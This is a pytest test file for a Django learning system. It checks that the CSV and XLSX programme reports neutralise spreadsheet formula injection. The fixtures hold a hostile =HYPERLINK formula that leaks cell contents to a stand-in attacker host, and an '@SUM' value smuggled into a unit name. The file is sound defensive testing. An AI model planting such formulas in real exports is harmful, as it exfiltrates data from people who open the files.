"""The programme report's downloads do not hand Excel a formula: a name or unit
typed as ``=HYPERLINK(…)`` arrives as text (the CSV and XLSX writers neutralise
every text cell, whatever the export)."""

import csv
import io

import pytest
from django.urls import reverse

from lms.programmes.models import AssignmentRule
from lms.programmes.services import evaluate_rules
from tests.factories import AsnProfileFactory, make_org_unit

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.fixture
def hostile_person(programme, unit):
    hostile_unit = make_org_unit("@SUM(1+1)", parent=unit, code="RUSAK")
    person = AsnProfileFactory(unit=hostile_unit, full_name=FORMULA).user
    AssignmentRule.objects.create(programme=programme, unit=unit)
    evaluate_rules()
    return person


@pytest.fixture
def officer_client(client, officer):
    client.force_login(officer)
    return client


def test_the_programme_csv_neutralises_formulas_in_names_and_units(
    officer_client, programme, hostile_person
):
    response = officer_client.get(reverse("programmes:report_csv", args=[programme.pk]))

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    row = next(row for row in rows[1:] if "HYPERLINK" in row[0])
    assert row[0] == "'" + FORMULA
    assert row[2] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_the_programme_xlsx_neutralises_formulas_in_names_and_units(
    officer_client, programme, hostile_person
):
    from openpyxl import load_workbook

    response = officer_client.get(
        reverse("programmes:report_xlsx", args=[programme.pk])
    )

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert "'" + FORMULA in [cell.value for cell in cells]
    assert not any(cell.data_type == "f" for cell in cells)
